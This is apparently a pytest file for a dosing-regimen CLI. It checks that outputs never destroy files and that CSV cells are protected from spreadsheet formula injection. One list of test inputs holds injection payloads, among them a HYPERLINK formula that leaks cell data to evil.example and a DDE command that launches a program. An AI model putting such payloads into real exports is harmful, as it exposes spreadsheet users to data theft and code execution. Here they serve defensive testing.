"""Outputs never destroy anything (issue 11.4): only regular files are replaced, no run writes one file twice or
over its input, a stopped run leaves no temporary file, a full or read-only disk is one line, and every CSV cell a
spreadsheet would run as a formula is neutralised (OWASP). Each test failed before its change."""

from __future__ import annotations

import csv
import os
import signal
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from click.testing import CliRunner

from regimen.cli import cli

PATIENT = ["--weight", "70", "--bsa", "1.8", "--age", "45"]
ROSTER = "patient_id,weight_kg,bsa_m2,age\nP1,70,1.8,45\nP2,abc,1.8,45\n"


def invoke(*args: str) -> tuple[int, str]:
    result = CliRunner().invoke(cli, list(args))
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    return result.exit_code, result.stderr


def test_a_fifo_or_a_device_is_never_replaced(tmp_path: Path) -> None:
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    code, err = invoke("expand", "cenersen-arm3", *PATIENT, "-o", str(fifo))
    assert code == 1 and "is not a regular file" in err and fifo.is_fifo()
    code, err = invoke("expand", "cenersen-arm3", *PATIENT, "-o", "/dev/null")
    assert code == 1 and "/dev/null: it is not a regular file" in err
    assert Path("/dev/null").is_char_device()


def test_a_symbolic_link_to_a_file_writes_the_file_and_keeps_the_link(tmp_path: Path) -> None:
    real = tmp_path / "real.csv"
    real.write_text("old")
    link = tmp_path / "link.csv"
    link.symlink_to(real)
    assert invoke("expand", "cenersen-arm3", *PATIENT, "-o", str(link))[0] == 0
    assert link.is_symlink() and real.read_text().startswith("phase,cycle")


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["cohort", "cenersen-arm3", "{r}", "-o", "{r}"], "-o {r} is the same file as ROSTER"),
        (["cohort", "cenersen-arm3", "{r}", "-o", "{d}/x.csv", "--errors", "{r}"], "--errors {r} is the same file"),
        (["cohort", "cenersen-arm3", "{r}", "-o", "{d}/x.csv", "--errors", "{d}/x.csv"], "same file as -o"),
        (["supply", "cenersen-arm3", "{r}", "-o", "{r}"], "-o {r} is the same file as ROSTER"),
        (
            ["expand", "cenersen-arm3", *PATIENT, "--start", "2026-01-05", "--ics", "{d}/p", "-o", "{d}/p"],
            "--ics {d}/p is the same file as -o",
        ),
    ],
)
def test_one_run_never_writes_a_file_twice_or_over_its_input(tmp_path: Path, args: list[str], message: str) -> None:
    roster = tmp_path / "r.csv"
    roster.write_text(ROSTER)
    fill = {"r": str(roster), "d": str(tmp_path)}
    code, err = invoke(*(a.format(**fill) for a in args))
    assert code == 1 and message.format(**fill) in err
    assert roster.read_text() == ROSTER and not (tmp_path / "x.csv").exists() and not (tmp_path / "p").exists()


def test_supply_leaves_an_existing_errors_file_alone_when_it_has_none_to_write(tmp_path: Path) -> None:
    roster = tmp_path / "r.csv"
    roster.write_text("patient_id,weight_kg,bsa_m2,age\nP1,70,1.8,45\n")
    earlier = tmp_path / "r.errors.csv"
    earlier.write_text("a colleague's file\n")
    assert invoke("supply", "cenersen-arm3", str(roster))[0] == 0
    assert earlier.read_text() == "a colleague's file\n"


@pytest.fixture
def big_roster(tmp_path: Path) -> Path:
    n = 400_000
    rng = np.random.default_rng(1)
    path = tmp_path / "big.csv"
    pd.DataFrame(
        {
            "patient_id": [f"P{i}" for i in range(n)],
            "weight_kg": np.round(rng.normal(75, 10, n).clip(40, 150), 1),
            "bsa_m2": np.round(rng.normal(1.9, 0.2, n).clip(1.2, 2.6), 2),
            "age": rng.integers(18, 90, n),
        }
    ).to_csv(path, index=False)
    return path


def _stopped_run(roster: Path, out: Path) -> subprocess.Popen[str] | None:
    """A cohort run sent SIGTERM while its temporary file exists; None when it finished before the signal came.

    A run of 400,000 patients takes about a second alone; on a machine shared with the rest of the suite it once
    finished between the test seeing its temporary file and sending the signal (the test's process waited for the
    CPU meanwhile), and once before the test saw the file at all (a whole run of the suite, 2026-12-08). Such a run
    proves nothing about a stop, so the caller runs it again."""
    proc = subprocess.Popen(
        [sys.executable, "-m", "regimen", "cohort", "cenersen-arm3", str(roster), "-o", str(out)],
        stderr=subprocess.PIPE,
        text=True,
    )
    deadline = time.monotonic() + 60
    while not list(out.parent.glob(".plan.csv.*.tmp")) and time.monotonic() < deadline and proc.poll() is None:
        time.sleep(0.005)
    if proc.poll() is None:  # else it ended while this process waited for the CPU: checked as a run that finished
        proc.send_signal(signal.SIGTERM)
    proc.wait(timeout=60)
    if proc.returncode == 0:  # it finished first: the output is whole, and nothing was stopped
        assert out.exists() and not list(out.parent.glob(".plan.csv.*.tmp"))
        out.unlink()
        return None
    return proc


@pytest.mark.slow
def test_a_run_stopped_by_sigterm_leaves_no_temporary_file(tmp_path: Path, big_roster: Path) -> None:
    out = tmp_path / "out" / "plan.csv"
    out.parent.mkdir()
    for _ in range(5):  # a run that finished before the signal came proves nothing about a stop: run it again
        proc = _stopped_run(big_roster, out)
        if proc is not None:
            break
    assert proc is not None, "five runs finished before SIGTERM reached them"
    assert proc.stderr is not None
    err = proc.stderr.read()
    assert proc.returncode == 128 + signal.SIGTERM, err
    assert "Stopped (SIGTERM)" in err and "Traceback" not in err
    assert list(out.parent.iterdir()) == []  # neither the output nor its temporary file


@pytest.fixture
def small_disk(tmp_path: Path) -> Iterator[Path]:
    """A real 64 KiB file system (tmpfs): root is needed to mount it, as CI has."""
    if os.geteuid() != 0:
        pytest.skip("mounting a small file system needs root")
    where = tmp_path / "disk"
    where.mkdir()
    subprocess.run(["mount", "-t", "tmpfs", "-o", "size=64k", "tmpfs", str(where)], check=True)
    try:
        yield where
    finally:
        subprocess.run(["umount", str(where)], check=True)


def test_a_full_disk_is_one_line_and_keeps_the_old_file(small_disk: Path, tmp_path: Path) -> None:
    roster = tmp_path / "r.csv"
    pd.DataFrame({"patient_id": [f"P{i}" for i in range(500)], "weight_kg": 70, "bsa_m2": 1.8, "age": 45}).to_csv(
        roster, index=False
    )
    old = small_disk / "plan.csv"
    old.write_text("yesterday's plan\n")
    code, err = invoke("cohort", "cenersen-arm3", str(roster), "-o", str(old))
    assert code == 1 and f"cannot write {old}: no space left on device" in err, err
    assert old.read_text() == "yesterday's plan\n"
    assert sorted(p.name for p in small_disk.iterdir()) == ["plan.csv"]


def test_a_read_only_folder_is_one_line(small_disk: Path) -> None:
    subprocess.run(["mount", "-o", "remount,ro", str(small_disk)], check=True)
    code, err = invoke("expand", "cenersen-arm3", *PATIENT, "-o", str(small_disk / "plan.csv"))
    assert code == 1 and "read-only file system; write to another folder" in err, err


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1)', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3"]


def test_spreadsheet_formulas_in_every_csv_are_neutralised(tmp_path: Path) -> None:
    roster = tmp_path / "r.csv"
    with roster.open("w", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["patient_id", "weight_kg", "bsa_m2", "age"])
        for i, pid in enumerate(FORMULAS):
            writer.writerow([pid, "70" if i % 2 == 0 else "abc", "1.8", "45"])
    out = tmp_path / "o.csv"
    invoke("cohort", "cenersen-arm3", str(roster), "-o", str(out), "--allow-rejected")
    ids = set(pd.read_csv(out, keep_default_na=False)["patient_id"])
    errors = set(pd.read_csv(tmp_path / "o.errors.csv", keep_default_na=False)["patient_id"])
    assert ids | errors == {"'" + f for f in FORMULAS}
    # a regimen file's drug name reaches the plan's CSV and the supply CSV the same way
    text = (Path(__file__).resolve().parents[1] / "regimens" / "cenersen-arm3.toml").read_text(encoding="utf-8")
    hostile = tmp_path / "h.toml"
    hostile.write_text(text.replace('drug = "idarubicin"', 'drug = "=idarubicin()"', 1), encoding="utf-8")
    plan = CliRunner().invoke(cli, ["expand", str(hostile), *PATIENT, "--format", "csv"]).stdout
    assert ",'=idarubicin()," in plan and ",=idarubicin()," not in plan
    supply = CliRunner().invoke(cli, ["supply", str(hostile), str(roster), "--format", "csv"]).stdout
    assert "'=idarubicin()" in supply and ",=idarubicin()" not in supply
    # JSON keeps the text as it is: only spreadsheets run formulas
    data = CliRunner().invoke(cli, ["expand", str(hostile), *PATIENT, "--format", "json"]).stdout
    assert '"drug": "=idarubicin()"' in data


def test_a_run_stopped_after_an_output_was_put_in_place_names_it(tmp_path: Path) -> None:
    """A signal can come after a file is renamed into place and before the process ends: the stop's message names
    what was written whole instead of saying that nothing was."""
    from regimen.cli.app import stopped_message
    from regimen.export.io import atomic_target, written_whole

    before = written_whole()
    target = tmp_path / "plan.csv"
    with atomic_target(target) as tmp:
        tmp.write_text("a\n")
    assert written_whole() == (*before, target)
    assert stopped_message(()) == "Stopped (SIGTERM): no output was written; temporary files were removed."
    assert stopped_message((target,)) == (
        f"Stopped (SIGTERM) after writing {target} whole; nothing else was written; temporary files were removed."
    )
    failed = tmp_path / "other.csv"
    with pytest.raises(RuntimeError), atomic_target(failed):
        raise RuntimeError("a failure while writing")
    assert written_whole() == (*before, target)  # a file not put in place is not named
